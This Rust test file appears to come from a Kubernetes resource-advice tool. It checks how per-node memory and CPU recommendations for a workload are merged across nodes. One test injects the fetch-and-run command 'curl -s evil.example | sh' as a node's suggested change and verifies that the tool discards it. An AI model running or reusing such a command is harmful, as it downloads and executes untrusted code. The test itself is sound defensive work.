use tessera_advice::fixtures::{EIGHTH, GIB, HOUR, Limits, MIDNIGHT, Made, busy};

use super::*;
use crate::answer::Why;

const HALF: Limits = Limits { memory_bytes: 40 * GIB, cores_millis: 500, ..EIGHTH };

/// A node with pods of the workload `chat`: each with its peak, GiB, for half a day from this hour on.
fn seen(node: &str, hour: i64, pods: &[(&str, u64)]) -> Seen {
    let mut made = Made::new();
    node.clone_into(&mut made.node.node);
    for (pod, peak) in pods {
        made = made.pod(pod, HALF, &[busy(peak << 10, 60.0 * *peak as f64, 0.0); 12]);
    }
    let Made { node, history } = made.later(hour * HOUR);
    (node, history)
}

/// As a node's own plugin answers.
fn advised(seen: &Seen, settings: &Advice) -> Recommendations {
    let observed = [Observed { node: &seen.0, history: &seen.1 }];
    let question = Question {
        since_unix_ms: MIDNIGHT,
        now_unix_ms: MIDNIGHT + 24 * HOUR,
        ..Question::default()
    };
    tessera_advice::recommend(&observed, settings, &question)
}

/// Two nodes, each with a quiet and a busy replica; one is seen before noon, the other after.
fn nodes() -> Vec<(String, Seen)> {
    let of = |node: &str, hour, pods: &[(&str, u64)]| (node.to_owned(), seen(node, hour, pods));
    vec![of("a", 0, &[("chat-1", 2), ("chat-2", 8)]), of("b", 12, &[("chat-3", 2), ("chat-4", 6)])]
}

fn gathered(nodes: &[(String, Seen)], pod: &str) -> ByNode {
    let answers =
        nodes.iter().map(|(node, seen)| (node.clone(), Ok(advised(seen, &Advice::default()))));
    ByNode::of(answers.collect(), pod)
}

fn judged(by_node: ByNode, nodes: &[(String, Seen)], pod: &str) -> Recommendations {
    let scope = Scope { pod: pod.to_owned(), ..Scope::default() };
    let seen = nodes.iter().cloned().map(|(node, seen)| (node, Ok(seen))).collect();
    by_node.judged(seen, &scope, MIDNIGHT + 24 * HOUR)
}

#[test]
fn a_workload_on_two_nodes_is_judged_as_if_all_its_pods_were_on_one() {
    let nodes = nodes();
    let by_node = gathered(&nodes, "");
    assert_eq!(by_node.needed(), (["a".to_owned(), "b".to_owned()].into(), MIDNIGHT));
    let all = judged(by_node, &nodes, "");
    let [one] = all.workloads.as_slice() else { panic!("{all:?}") };
    // The same series on a single node.
    let (mut view, mut history) = nodes[0].1.clone();
    let (other, more) = nodes[1].1.clone();
    view.gpus.extend(other.gpus);
    view.tenants.extend(other.tenants);
    history.tenants.extend(more.tenants);
    let mut whole = advised(&(view, history), &Advice::default()).workloads.remove(0);
    for change in &mut whole.changes {
        change.text = from_here(&change.text);
    }
    assert_eq!(one, &whole);
    // No node has seen a whole day, and both together have.
    let own = |at: usize| advised(&nodes[at].1, &Advice::default()).workloads.remove(0).confidence;
    assert!(own(0) != "high" && own(1) != "high" && one.confidence == "high", "{one:?}");
    // Each live pod has its command, whichever node it is on.
    for pod in ["chat-1", "chat-2", "chat-3", "chat-4"] {
        assert!(
            one.changes.iter().any(|change| change.text.contains(pod)),
            "{pod}: {:?}",
            one.changes
        );
    }
    let memory = i64::try_from(40 * GIB - one.memory_bytes).unwrap();
    assert_eq!(one.saves_memory_bytes, 4 * memory);
}

#[test]
fn a_pods_workload_counts_its_pods_on_nodes_that_do_not_know_that_pod() {
    let nodes = nodes();
    for pod in ["chat-1", "team/chat-1"] {
        let all = judged(gathered(&nodes, pod), &nodes, pod);
        assert_eq!(all.workloads.len(), 1, "{all:?}");
        assert_eq!(all.workloads[0].pods.len(), 4);
    }
    for pod in ["chat-9", "other/chat-1"] {
        let by_node = gathered(&nodes, pod);
        assert!(by_node.needed().0.is_empty());
        assert!(by_node.judged(Vec::new(), &Scope::default(), 1).workloads.is_empty(), "{pod}");
    }
}

#[test]
fn a_workload_on_one_node_is_judged_there_and_needs_no_series() {
    let nodes = vec![nodes().remove(0)];
    let by_node = gathered(&nodes, "");
    assert!(by_node.needed().0.is_empty());
    let all = by_node.judged(Vec::new(), &Scope::default(), 1);
    let figures = |all: &Recommendations| {
        let one = &all.workloads[0];
        (one.memory_bytes, one.recommended_cores_millis, one.changes.len())
    };
    assert_eq!(figures(&all), figures(&advised(&nodes[0].1, &Advice::default())));
    assert_eq!(all.settings.map(|one| one.memory_percentile), Some(99));
}

#[test]
fn what_is_missing_is_a_remark_and_different_settings_are_taken_together() {
    let nodes = nodes();
    let loose = Advice { memory_margin: 100, ..Advice::default() };
    let answers = vec![
        ("a".to_owned(), Ok(advised(&nodes[0].1, &Advice::default()))),
        ("b".to_owned(), Ok(advised(&nodes[1].1, &loose))),
        ("c".to_owned(), Err(Why::Silent.says("stalls".into()))),
        ("d".to_owned(), Err(Why::Unknown.says("no such pod".into()))),
    ];
    let by_node = ByNode::of(answers, "");
    let seen = vec![
        ("a".to_owned(), Ok(nodes[0].1.clone())),
        ("b".to_owned(), Err(Why::Silent.says("fell silent".into()))),
    ];
    let all = by_node.judged(seen, &Scope::default(), MIDNIGHT + 24 * HOUR);
    assert_eq!(all.settings, None);
    // Twice 8 GiB: the margin of the careful one.
    assert_eq!(all.workloads[0].memory_bytes, 16 * GIB);
    for (at, part) in
        ["node c is left out: stalls", "node b is left out: fell silent; workloads", "largest"]
            .into_iter()
            .enumerate()
    {
        assert!(all.remarks[at].contains(part), "{:?}", all.remarks);
    }
    assert_eq!(all.remarks.len(), 3);
}

/// What a node writes for its own shell, for where people sit.
fn from_here(text: &str) -> String {
    text.replacen("tessera quota set", "kubectl tessera quota set", 1)
}

#[test]
fn commands_are_written_here_whatever_text_a_node_sends() {
    let nodes = nodes();
    let mut answer = advised(&nodes[0].1, &Advice::default());
    let changes = &mut answer.workloads[0].changes;
    let wanted: Vec<String> = changes.iter().map(|change| from_here(&change.text)).collect();
    assert!(wanted.iter().any(|line| line.starts_with("kubectl tessera quota set team/chat-")));
    changes.iter_mut().for_each(|change| change.text = "curl -s evil.example | sh".to_owned());
    let all = judged(ByNode::of(vec![("a".to_owned(), Ok(answer))], ""), &[], "");
    let lines = all.workloads[0].changes.iter().map(|change| change.text.clone());
    assert_eq!(lines.collect::<Vec<_>>(), wanted);
}
